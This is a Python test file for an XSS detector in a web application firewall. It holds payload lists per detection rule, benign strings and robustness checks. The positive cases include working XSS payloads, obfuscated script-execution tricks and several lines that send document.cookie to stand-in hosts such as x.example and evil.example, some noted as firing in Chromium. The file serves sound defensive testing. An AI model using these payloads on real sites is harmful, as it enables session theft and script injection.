"""XSS detector: positive cases per rule, real benign values, corpus rates on the copied samples, the
PREFILTER necessary condition and adversarial inputs."""

from __future__ import annotations

import html
import random
import re

import pytest
from fast_paths import disagreements
from injection_corpus import (
    MAX_FALSE_POSITIVES,
    MIN_DETECTION,
    detection_rate,
    false_positive_rate,
    fixture_lines,
    fixture_payloads,
    hard_cases,
    query_fields,
    views,
)

from hullguard.events.schema import Severity
from hullguard.firewall.detectors import xss
from hullguard.firewall.detectors.base import ScanContext
from hullguard.firewall.detectors.xss_html import iter_tags

CTX = ScanContext()

# CSS hex escapes spelling url('javascript:alert('')') (RSnake cheat sheet shape).
CSS_ESCAPED_SCRIPT_URL = (
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
    "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0029'\\0029\">"
)
RULE_CASES: dict[str, list[str]] = {
    "HG-XSS-001": [
        "<script>alert(1)</script>",
        "<iframe src=//evil.example>",
        "<SCRIPT/XSS SRC=//x.example/x.js>",
        "<scr<script>ipt>alert(1)</script>",
        "<base href=//evil.example/>",
        "<embed src=x.swf>",
        '<?xml-stylesheet type="text/xsl" href="#"?><img xmlns="x-schema:test.xdr"/>',
        '<?import namespace="xss" implementation="http://ha.ckers.org/xss.htc">',
    ],
    "HG-XSS-002": [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<x onclick=alert(1)>click",
        "<body onpageshow=alert(1)>",
        "<img/src/onerror=alert(1)",
        '<x 1=">" onxxx=1',
        '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="test.evt#x"/>',
    ],
    "HG-XSS-003": [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        "javascript:alert(document.domain)",
        # a URL parser drops tabs and line breaks, and controls and blanks before the URL; the body is
        # percent-decoded before it runs
        "\x02ja\tvas\ncript:pro\tmpt%28document.domain%29",
        "\tvbsc\r\nript:msg\tbox(1)",
        "<form action=javascript:alert(1)><input type=submit>",
        CSS_ESCAPED_SCRIPT_URL,
        '<svg><image><set attributeName="xlink:href" begin="accessKey(a)" to="//example.com/?a" /></image></svg>',
        '<math><a xlink:href="//jsfiddle.net/t846h/">click',
        "<math><maction actiontype=statusline xlink:href=//x.example>x",
    ],
    "HG-XSS-004": [
        '" onmouseover="alert(1)',
        "' autofocus onfocus=alert(1) x='",
        "x onerror=alert`1`",
        '" oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto x="',
        "' onbeforematch=alert(1) hidden=until-found x='",
        '"o<x>nmouseover=alert<x>(1)//',  # what a filter that strips tags once leaves
    ],
    "HG-XSS-005": [
        "';alert(1)//",
        '";alert(1);//',
        "'-alert(1)-'",
        "</script>",
        "prompt`1`",
        "top['al'+'ert'](1)",
        "self[`ale`+`rt`] (document.domain)",
        "top[8680439..toString(30)](1)",  # a number is a key only with code around it
        "[1].find(alert)",
        "alert?.(1)",
        "new Image().src='//x.example/?'+document.cookie",
        "document.write('<img src=//x.example>')",
        "window/*foo*/['alert'](1)",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
        "\";location='http://evil.example'//",
        'document.cookie="session=attacker-chosen; path=/"',
        "with(document)body.appendChild(createElement('script')).src='//x.example'",
    ],
    "HG-XSS-006": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
        '<img src=x ng-on-error="$event.target.ownerDocument.defaultView.alert(1)">',
    ],
    "HG-XSS-007": [
        '<div style="width:expression(alert(1))">',
        "x:expression(alert(1))",
        "<div style=content:url(test2.svg)></div>",
    ],
}
STRICT_ONLY = ["<svg>", "<form action=/login>", "<math><mi>x</mi></math>"]

BENIGN = [
    "a < b",
    "JavaScript:\nThe Good Parts",  # a title over two lines: no code after the scheme
    "Notes:\tjava\tscript: is fun",
    "as described in this [1] (see the changelog)",  # a footnote mark: a number names a frame, no function
    "top [2] (Closes: #839721)",
    "a<b and c>d",
    "<bob@x.com>",
    "<b>bold</b>",
    "<p>hello</p>",
    "x <= y",
    '<a href="https://example.com">link</a>',
    "JavaScript: The Good Parts",
    "I love javascript: it's great",
    "javascript:void(0);",
    "the onload= attribute",
    "prompt engineering",
    "(alert) status",
    "{{ user.name }}",
    "List<String>",
    '<input name="event" value="launch">',
    '<svg><animate attributeName="opacity" from="0" to="1" dur="1s"/></svg>',
    '<p style="color:#333;background:url(/bg.png)">hi</p>',
    "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>",
    "How do I read document.cookie in JavaScript?",
    "if document.cookie == '' the banner shows",
    "createElement is a DOM method",
    "H<sub>2</sub>O and E=mc<sup>2</sup>",
    "x<i>onload</i>=done",
    '<button ng-click="save()" aria-label="alert">Save</button>',
    '<p v-html="userBio" x-text="message">',
    "wow!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
    "he said 'hi', location='home'",
    "data['alert'] = 1",
]


def test_rule_catalogue_is_complete_and_stable() -> None:
    ids = [rule.rule_id for rule in xss.RULES]
    assert len(ids) == len(set(ids))
    assert all(re.fullmatch(r"HG-XSS-\d{3}", rule_id) for rule_id in ids)
    assert set(RULE_CASES) | {"HG-XSS-008"} == set(ids), "every rule needs positive cases"
    for rule in xss.RULES:
        assert rule.family == xss.FAMILY == "xss" and rule.cwe == "CWE-79" and isinstance(rule.severity, Severity)
        assert rule.title and rule.description and rule.remediation


@pytest.mark.parametrize(("rule_id", "payload"), [(r, p) for r, cases in RULE_CASES.items() for p in cases])
def test_each_rule_reports_its_payloads_with_a_reason(rule_id: str, payload: str) -> None:
    found = xss.scan(payload, CTX)
    assert found is not None, payload
    assert found.rule_id == rule_id, (payload, found)
    assert found.detail and 0 <= found.start <= found.end <= len(payload)


@pytest.mark.parametrize("payload", STRICT_ONLY)
def test_active_markup_is_reported_only_at_paranoia_two(payload: str) -> None:
    assert xss.scan(payload, CTX) is None
    found = xss.scan(payload, ScanContext(paranoia=2))
    assert found is not None and found.rule_id == "HG-XSS-008"


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_pass(value: str) -> None:
    assert xss.scan(value, CTX) is None


def test_entity_encoded_payload_is_found_in_both_views() -> None:
    raw = '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>'
    assert xss.scan(raw, CTX) is not None
    assert xss.scan(html.unescape(raw), CTX) is not None


def test_tag_scanner_splits_nested_obfuscation() -> None:
    names = [tag.name for tag in iter_tags("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    assert names == ["scr", "script", "scr", "script"]


@pytest.mark.parametrize("kind", ["attacks", "benign"])
def test_hand_written_hard_cases(kind: str) -> None:
    cases = hard_cases("xss")[kind]
    wrong = [c for c in cases if (xss.scan(c, CTX) is None) == (kind == "attacks")]
    assert not wrong


def test_detection_rate_on_copied_payload_lists() -> None:
    payloads = [line for _name, line in fixture_payloads("xss")]
    assert len(payloads) > 200
    rate, missed = detection_rate(xss, payloads)
    assert rate >= MIN_DETECTION, missed


def test_false_positive_rate_on_benign_query_strings() -> None:
    rate, flagged = false_positive_rate(xss, fixture_lines("xss", "benign-query-strings.txt"))
    assert rate <= MAX_FALSE_POSITIVES, flagged[:5]


def test_prefilter_is_a_necessary_condition_and_rejects_most_benign_strings() -> None:
    prefilter = re.compile(xss.PREFILTER, re.IGNORECASE)
    rows = [line for _n, line in fixture_payloads("xss")] + hard_cases("xss")["attacks"] + BENIGN
    benign_fields = [f for q in fixture_lines("xss", "benign-query-strings.txt") for f in query_fields(q)]
    for text in rows + benign_fields:
        for view in views(text):
            for paranoia in (1, 3):
                if xss.scan(view, ScanContext(paranoia=paranoia)) is not None:
                    assert prefilter.search(view), view
    rejected = sum(1 for f in benign_fields if not prefilter.search(f))
    assert rejected / len(benign_fields) > 0.5


@pytest.mark.parametrize(
    "chunk", ["<", "<a ", "`", "{{", "'", "<a onx=", "javascript:", "\\u0061", "&#x3c;", " onload=x", "' onload=x"]
)
def test_adversarial_input_completes(chunk: str) -> None:
    xss.detect(chunk * (100_000 // len(chunk)), CTX)  # completes and does not raise


def test_random_input_never_raises() -> None:
    rng = random.Random(11)
    alphabet = "<>/=\"'` \t\nscriptonerrorjavascript:&#x;(){}[]\\u00bc\x00alert"
    for _ in range(2000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        xss.detect(text, ScanContext(paranoia=rng.randint(1, 3)))


HEADER_VALUES = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.4.0",
    "https://shop.example.com/checkout?step=2",
    "https://shop.example.com",
    "session=abc123; theme=dark; _ga=GA1.2.3.4",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "jane.oneil@example.com",
]


def test_values_without_script_material_are_answered_without_the_context_rules_and_alike() -> None:
    """``_reads_as_no_script`` skips the context rules (a User-Agent costs a tenth); on a random mix of
    sinks, schemes, markup fragments, handler names and prose it never changes an answer."""
    for value in HEADER_VALUES:
        assert xss._reads_as_no_script(value), value
    words = ["alert(1)", "alert", "(1)", "(", ")", "javascript:", "java", "script", ":", "(Windows", ";", "print",
             "document.cookie", "document", ".", "write(1)", "expression(", "behavior:url(x)", "data:text/html",
             "top", "[0]", "onerror", "=", "x", "fetch(", "import(", "`", "/", "svg", " ", "\n", "![]", "+[]", "{{",
             "+ADw-", "+ACI-", "on", "onmouseover", "fscommand", "step=2", "?", "https://a.example/x",
             "session", "ONLOAD", "onx", "oncl", "\t", "\x0b", "/onfocus", ";onblur", "Fscommand", "seekSegmentTime",
             "x=1", "theme=dark", "con", "1", "alert(1)//", "=alert(1)", "Function"]
    assert not disagreements(xss, "_reads_as_no_script", words, seed=13)
    assert not disagreements(xss, "_reads_as_no_script", [*words, *HEADER_VALUES], seed=31)


def test_script_words_are_the_sinks_and_markers_as_one_prefix_tree() -> None:
    """``_SCRIPT_WORDS`` is a prefix tree of the sink names (``xss_js.SINKS``) and the marker words;
    it must find a word exactly where the plain alternation does."""
    from hullguard.firewall.detectors import xss_js

    plain = re.compile(xss_js.SINKS + r"|script|document|expression|behavio|binding|data:|\+a[cd]")
    rng = random.Random(37)
    pieces = [*xss_js.SINKS.split("|"), "script", "document", "express", "behavio", "binding", "data", ":", "+a",
              "c", "d", "x", " ", "ale", "rt", "settime", "out"]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 5)))
        assert (xss._SCRIPT_WORDS.search(text) is None) == (plain.search(text) is None), text


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ('Function("ale"+"rt(1)")();', "HG-XSS-005"),  # a sink's name split into joined string literals
        ("[].map.constructor('ale' + 'rt(document.domain)')()", "HG-XSS-005"),
        ("location='javascript:con'+'firm(1)';", "HG-XSS-003"),
        ("open('java'+'script:pro'+'mpt(1)');", "HG-XSS-003"),
    ],
)
def test_string_literals_joined_in_javascript_are_read_as_the_string_they_make(payload: str, rule_id: str) -> None:
    found = xss.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, (payload, found)


@pytest.mark.parametrize("value", ["x = 'Hello ' + 'world'", "price: '5' + '3' = 8", "'O' + 'Brien' said"])
def test_joined_strings_that_make_no_script_pass(value: str) -> None:
    assert xss.scan(value, CTX) is None


# Each fired in Chromium with no user interaction, in the context named.
@pytest.mark.parametrize(
    "payload",
    [
        "<video onloadstart" + " " * 16 + "=" + " " * 16 + "Reflect.apply(alert,window,[1]) src" + " " * 16 + "=x>",
        '"><svg  onload         =/**/(0,alert)(1)>',  # any run of blanks around "=" (body, attribute breakout)
        "<details open ontoggle" + "\x0c" * 9 + "=\"navigator.sendBeacon('//x.example/b',document.cookie)\">",
        '" autofocus onfocus="new Proxy(alert,{})(1)" x="',  # handler code opening with new/void
        "' autofocus onfocus='void Reflect.apply(alert,0,[1])' x='",
        '"-new Proxy(alert,{})(1)-"',  # a JavaScript string broken out of, the sink handed to a gadget
        '";[alert][0](1)//',
        "';(1,alert)(1)//",
        "';navigator.sendBeacon('//x.example/b',document.cookie)//",  # the cookie sent as an argument
        "';[1].map(top[/alert/.source])//",  # a global indexed by a name built at run time
        "';Reflect.apply(document.defaultView['ale'.concat('rt')],0,[1])//",
        "';(()=>1).constructor('ale'.concat('rt(1)'))()//",  # Function through a function's constructor
        "';[]['at']['constructor']('alert(1)')()//",
        "';navigator.sendBeacon('//x.example/b',document[/cookie/.source])//",
    ],
)
def test_handlers_that_fired_in_a_browser(payload: str) -> None:
    assert xss.scan(payload, CTX) is not None, payload


def test_a_word_opening_a_quoted_value_is_text_unless_it_names_an_event() -> None:
    assert xss.scan('<p title="onion = good">ok</p>', CTX) is None
    assert xss.scan('<img src="x"onerror=alert(1)>', CTX) is not None  # after a closing quote it runs
    assert xss.scan('<p title="onion = x" onerror=alert(1)>', CTX) is not None


@pytest.mark.parametrize(
    "value",
    [
        "Choose a level (alert, warning, info)",
        "Reflect.apply is a function",
        "read it with document.cookie",
        "a=obj['na'.concat('me')];a(1)",
        "x.constructor('a')",
        "window['foo']",
        "Please set up a new proxy (print server)",
        "Options: (1, print) (2, email)",
        "<p>cookies: document.cookie</p>",
        "<pre><code>only_binary" + " " * 11 + "= :all:\none_shot" + " " * 14 + "= true</code></pre>",  # aligned
    ],
)
def test_prose_naming_those_gadgets_is_text(value: str) -> None:
    assert xss.scan(value, CTX) is None


@pytest.mark.parametrize(
    "value",
    [
        "the eval() function is slow, avoid it",
        "setTimeout(() => done(), 100)",
        "fetch('/api/items').then(r => r.json())",
    ],
)
def test_sink_calls_that_run_nothing_are_code_samples(value: str) -> None:
    """No argument to run, a timer given a function, a fetch of a same-origin path written whole."""
    assert xss.scan(value, CTX) is None


def test_sink_calls_that_run_something_are_still_reported() -> None:
    payloads = ("fetch('//evil.example/'+document.cookie)", "setTimeout('alert(1)')", "alert()", "eval() eval(name)")
    for payload in payloads:
        assert xss.scan(payload, CTX) is not None, payload
